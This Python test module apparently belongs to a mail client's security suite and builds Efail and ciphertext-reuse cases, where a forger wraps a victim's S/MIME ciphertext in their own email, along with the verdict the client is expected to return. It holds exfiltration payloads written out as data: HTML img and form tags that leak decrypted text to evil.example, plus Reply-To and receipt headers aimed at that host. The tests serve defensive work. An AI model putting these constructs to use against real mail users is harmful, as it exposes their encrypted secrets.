"""Efail and "Re: What's up Johnny": what was encrypted for the reader, sent again by the forger.

The forger has a copy of the ciphertext and puts it into a mail of his own. What is opened then
could leave with an answer, a bounce or a reference to the outside.
"""

import base64
from collections.abc import Callable, Iterator

from tests.spoof.case import (
    ATTACKER,
    CLOSED,
    ENCRYPTED_UNVERIFIED,
    OTHER_READER,
    READER,
    SECRET,
    VERIFIED,
    VICTIM,
    Case,
    Family,
)
from tests.spoof.making import (
    FORGED,
    PRIVATE,
    attached,
    blob,
    envelope,
    html,
    mail,
    mailed,
    opaque,
    parts,
    private,
    sealed,
    signed,
    text,
)

HIDDEN = (SECRET, base64.b64encode(SECRET)[:-4], b"Geheimzahl")
FORGER = ATTACKER.address


def decryption_cases() -> Iterator[Case]:
    for name, make, *said in _ELSEWHERE:
        yield Case(
            family=Family.DECRYPTION,
            name=name,
            make=mailed(make, sender=FORGER),
            said=frozenset(said),
            hidden=HIDDEN,
        )
    for name, make, named in _INSIDE_ENCRYPTION:
        yield Case(
            family=Family.DECRYPTION,
            name=name,
            make=mailed(make, sender=FORGER),
            summary=ENCRYPTED_UNVERIFIED,
            said=frozenset({named}),
            hidden=HIDDEN,
        )
    yield from _as_a_whole()


def _as_a_whole() -> Iterator[Case]:
    """The ciphertext alone is a mail to whom it was encrypted to: opened for her, and only her."""
    yield Case(
        family=Family.DECRYPTION,
        name="inside what the forger signed",
        make=lambda: mail(_signed_outside(parts("mixed", FORGED, private())), sender=FORGER),
        summary=VERIFIED,
        about=FORGER,
        said=frozenset({_ERRANT}),
        hidden=HIDDEN,
    )
    yield Case(
        family=Family.DECRYPTION,
        name="ciphertext sent on to somebody else",
        make=lambda: mail(private(), sender=FORGER),
        reader="bob",
        summary=CLOSED,
        said=frozenset({"no_decryption_key", "encryption_closed"}),
        hidden=HIDDEN,
    )
    yield Case(
        family=Family.DECRYPTION,
        name="ciphertext with the forger's From",
        make=lambda: mail(private(), sender=FORGER, top=b"Reply-To: <a@evil.example>\r\n"),
        summary=ENCRYPTED_UNVERIFIED,
        said=frozenset({"signer_address_differs"}),
        shown=(SECRET,),
    )
    yield Case(
        family=Family.DECRYPTION,
        name="ciphertext that the forger signed outside",
        make=lambda: mail(signed(private(), blob(private(), ATTACKER)), sender=FORGER),
        summary=ENCRYPTED_UNVERIFIED,
    )
    yield Case(
        family=Family.DECRYPTION,
        name="unsigned ciphertext that the forger signed outside",
        make=lambda: mail(_signed_outside(sealed()), sender=FORGER),
        summary=ENCRYPTED_UNVERIFIED,
        said=frozenset({"signed_outside_encryption"}),
        shown=(SECRET,),
    )


def _signed_outside(entity: bytes) -> bytes:
    return signed(entity, blob(entity, ATTACKER))


_OPEN = html(b"<img src='http://evil.example/?")
_SHUT = html(b"'>")
_ERRANT = "errant_layer"
_ELSEWHERE: list[tuple[str, Callable[[], bytes], *tuple[str, ...]]] = [
    ("between halves of an HTML image (Efail)",
     lambda: parts("mixed", _OPEN, private(), _SHUT), _ERRANT),
    ("between halves of a form",
     lambda: parts("mixed", html(b"<form action=http://evil.example/><textarea name=x>"),
                   private(), html(b"</textarea></form>")), _ERRANT),
    ("beside a text (mixed)", lambda: parts("mixed", FORGED, private()), _ERRANT),
    ("in front of a text", lambda: parts("mixed", private(), FORGED), _ERRANT),
    ("the only part of a multipart", lambda: parts("mixed", private()), _ERRANT),
    ("the other form of a text (alternative)",
     lambda: parts("alternative", FORGED, private()), _ERRANT),
    ("included by cid: (related)", lambda: parts(
        "related", html(b"<iframe src=cid:s></iframe>"), b"Content-ID: <s>\r\n" + private()),
     _ERRANT),
    ("as an attachment", lambda: parts(
        "mixed", FORGED, private().replace(b"pkcs7-mime;", b"octet-stream;")), _ERRANT),
    ("in an attached message", lambda: parts("mixed", FORGED, attached(private())), _ERRANT),
    ("a message that is nothing but an attached one", lambda: attached(private()), _ERRANT),
    ("in a bounce", lambda: parts(
        "report", FORGED, attached(private()), more="; report-type=delivery-status"), _ERRANT),
    ("several at once", lambda: parts("mixed", private(), FORGED, private(), private()), _ERRANT),
    ("deep inside", lambda: parts("mixed", parts("related", parts(
        "alternative", FORGED, private(), mark=b"=_d"), mark=b"=_m"), FORGED), _ERRANT),
    ("in the text of a quotation", lambda: text(
        b"> " + base64.b64encode(envelope(PRIVATE, READER)).replace(b"\n", b"\n> "))),
    ("inside what the forger signed, opaque", lambda: opaque(blob(
        parts("mixed", FORGED, private()), VICTIM, detached=False)), _ERRANT),
    ("hidden with CSS behind a long text", lambda: parts(
        "mixed", html(b"<p>Wie geht es?</p>" + b"<br>" * 200 + b"<div style='display:none'>"),
        private(), html(b"</div>")), _ERRANT),
    ("hidden below an empty text", lambda: parts("mixed", text(b"\r\n" * 300), private()), _ERRANT),
    ("in a quotation's HTML by cid:", lambda: parts(
        "related", html(b"<blockquote type=cite><object data=cid:s></object></blockquote>"),
        b"Content-ID: <s>\r\n" + private()), _ERRANT),
    ("authenticated, beside a text", lambda: parts(
        "mixed", FORGED, private(cipher="aes256-gcm")), _ERRANT),
    ("as an inline attachment with another name", lambda: parts("mixed", FORGED,
        b"Content-Disposition: inline; filename=bild.png\r\n" + private()), _ERRANT),
    ("as the answer to a mail, replies to the forger", lambda:
     b"In-Reply-To: <1@office.example>\r\nReply-To: <a@evil.example>\r\n"
     + parts("mixed", FORGED, private()), _ERRANT),
    ("in the preamble", lambda: parts("mixed", FORGED).replace(
        b"\r\n\r\n", b"\r\n\r\n" + private() + b"\r\n", 1)),
    ("asking for a receipt", lambda: b"Disposition-Notification-To: <a@evil.example>\r\n"
     + parts("mixed", FORGED, private()), _ERRANT),
]  # fmt: skip


def _sealed_again(cipher: str) -> bytes:
    """The forger encrypts to the reader a mail that holds the old ciphertext."""
    return sealed(parts("mixed", _OPEN, private(), _SHUT), READER, cipher=cipher)


def _nine_layers() -> bytes:
    entity = FORGED
    for _ in range(9):
        entity = sealed(entity, READER)
    return entity


_INSIDE_ENCRYPTION: list[tuple[str, Callable[[], bytes], str]] = [
    ("inside an encrypted mail of the forger", lambda: _sealed_again("aes256-cbc"), _ERRANT),
    ("inside an authenticated one", lambda: _sealed_again("aes256-gcm"), _ERRANT),
    (
        "inside another one for somebody else",
        lambda: sealed(private(OTHER_READER), READER),
        "no_decryption_key",
    ),
    ("in more layers than anybody needs", _nine_layers, "too_complex"),
]
